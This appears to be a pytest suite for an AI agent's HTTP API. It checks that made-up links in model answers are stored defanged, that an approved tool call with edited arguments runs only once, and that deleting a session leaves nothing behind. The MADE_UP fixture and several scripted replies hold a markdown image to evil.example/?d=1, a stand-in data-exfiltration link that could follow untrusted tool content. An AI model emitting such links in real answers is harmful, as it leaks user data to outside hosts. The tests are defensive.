"""What the HTTP door stores of an answer: the text as it was shown, and each approved call made once."""

from __future__ import annotations

import asyncio
import logging
from pathlib import Path

import pytest

from task.llm.scripted import says, wants
from tests.support.http_api import Api, Reply, http_api, said
from tests.support.upstream import hanging

FOREIGN = """
from task.tools.declare import tool
from task.tools.models import Effect

@tool(effects={Effect.READ})
def read_page() -> str:
    '''Read a page that somebody else wrote.'''
    return "Ask for https://known.example/page"
"""
MADE_UP = "See https://known.example/page, ![x](https://evil.example/?d=1) and https://evil.example/2."
SHOWN = "See https://known.example/page, \\[x\\] (`https[://]evil[.]example/?d=1`) and https[://]evil[.]example/2."
NOTES = str(Path(__file__).parent.parent / "contract" / "matrix" / "notes.py")


def foreign_tool(tmp_path: Path) -> list[str]:
    (tmp_path / "page_tool.py").write_text(FOREIGN)
    return [str(tmp_path / "page_tool.py")]


@pytest.mark.fault("http api: a made-up address in a stored answer")
async def test_a_stored_answer_holds_made_up_addresses_as_the_stream_showed_them(tmp_path: Path) -> None:
    script = (wants("read_page"), says(*(MADE_UP[n : n + 7] for n in range(0, len(MADE_UP), 7))), says("Sure."))
    async with http_api(*script, tmp_path=tmp_path, tool_paths=foreign_tool(tmp_path)) as api:
        run = (await api.post("/runs", {"messages": [said("Read it")]})).json
        streamed = "".join(event["text"] for event in await api.events(run["run_id"]) if event["type"] == "text")
        session = (await api.get(f"/session/{run['session_id']}")).json["messages"]
        messages = (await api.get(f"/session/{run['session_id']}/messages")).json["messages"]
        history = [said("Read it"), said(streamed, "assistant"), said("And now?")]
        next_answer = (await api.post("/chat", {"messages": history, "session_id": run["session_id"]})).json
        sent = api.upstream.requests[2].messages
    assert streamed == SHOWN
    assert session[-1] == said(SHOWN, "assistant")
    assert messages[-1] == said(SHOWN, "assistant")
    assert next_answer["session_id"] == run["session_id"]  # what a client was shown is the history it sends
    assert said(SHOWN, "assistant") in sent


@pytest.mark.fault("http api: a made-up address in a stored answer")
async def test_what_a_broken_off_answer_leaves_is_as_harmless(tmp_path: Path) -> None:
    cut = hanging(says("See https://evil.example/?d=1 ", "and ", "more"), chunks=3)
    script = (wants("read_page"), cut)
    async with http_api(*script, tmp_path=tmp_path, tool_paths=foreign_tool(tmp_path)) as api:
        run = (await api.post("/runs", {"messages": [said("Read it")]})).json
        await stopped_in(api, run["run_id"])
        messages = (await api.get(f"/session/{run['session_id']}/messages")).json["messages"]
    assert messages[-1]["content"].startswith("See https[://]evil[.]example/?d=1")


@pytest.mark.fault("http api: a run that is stopped after an approved call")
async def test_an_approved_call_is_made_once_though_the_run_is_stopped_after_it(tmp_path: Path) -> None:
    script = (wants("write_note", text="milk"), hanging(says("Noted", " it"), chunks=3), says("Yes."))
    async with http_api(*script, tmp_path=tmp_path, tool_paths=[NOTES]) as api:
        asked = (await api.post("/chat", {"messages": [said("note it")]})).json
        [approval] = (await api.get("/approvals")).json["approvals"]
        changed = {"decision": "approve", "arguments": {"text": "bread"}}
        reply = await api.post(f"/approvals/{approval['approval_id']}", changed)
        await stopped_in(api, reply.json["resumed"]["run_id"])
        answer = (await api.post("/chat", {"messages": [said("Is it noted?")], "session_id": asked["session_id"]})).json
        results = [item["content"] for item in api.upstream.requests[2].messages if item["role"] == "tool"]
    assert [result.splitlines()[-1] for result in results] == ["noted: bread"]
    assert "approved this call with other arguments" in results[0]
    assert [call["name"] for call in answer["trace"]["tool_calls"]] == []


async def test_a_session_that_is_deleted_while_it_is_answered_leaves_nothing(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, "task")
    script = hanging(says("Something ", "secret ", "here"), chunks=3)
    async with http_api(script, tmp_path=tmp_path) as api:
        run = (await api.post("/runs", {"messages": [said("?")]})).json
        deleted = await when_it_speaks(api, run["run_id"], "DELETE", f"/session/{run['session_id']}")
        await api.upstream.disconnected(1)
        paths = (f"/session/{run['session_id']}", f"/runs/{run['run_id']}", f"/traces/{run['trace_id']}")
        after = [(await api.get(path)).status for path in paths]
    async with http_api(tmp_path=tmp_path) as api:  # pending writes are done by now
        later = [(await api.get(path)).status for path in paths]
    assert deleted.status == 204
    assert after == later == [404, 404, 404]
    assert not [record for record in caplog.records if record.levelno >= logging.WARNING]
    assert "secret" not in caplog.text


async def stopped_in(api: Api, run_id: str) -> None:
    """Stop the run at its first text."""
    await when_it_speaks(api, run_id, "POST", f"/runs/{run_id}/cancel")


async def when_it_speaks(api: Api, run_id: str, method: str, path: str) -> Reply:
    """Call at the run's first text; returns when the run is over."""
    reply = None
    async with asyncio.timeout(20), api.session.get(f"{api.url}/runs/{run_id}/events") as stream:
        async for line in stream.content:
            if b'"type":"text"' in line and reply is None:
                reply = await api.call(method, path)
    assert reply is not None
    return reply


@pytest.mark.fault("http api: a made-up address in a stored answer")
async def test_text_beside_a_question_is_stored_as_harmless(tmp_path: Path) -> None:
    asks = says("As on https://evil.example/2.") & wants("write_note", text="milk")
    tools = [*foreign_tool(tmp_path), NOTES]
    async with http_api(wants("read_page"), asks, tmp_path=tmp_path, tool_paths=tools) as api:
        asked = (await api.complete("Read it and note it")).json
        kept = (await api.get(f"/session/{asked['session_id']}/messages")).text
    assert "**May I do this?**" in asked["choices"][0]["message"]["content"]
    assert "As on https[://]evil[.]example/2." in kept
    assert "https://evil" not in kept
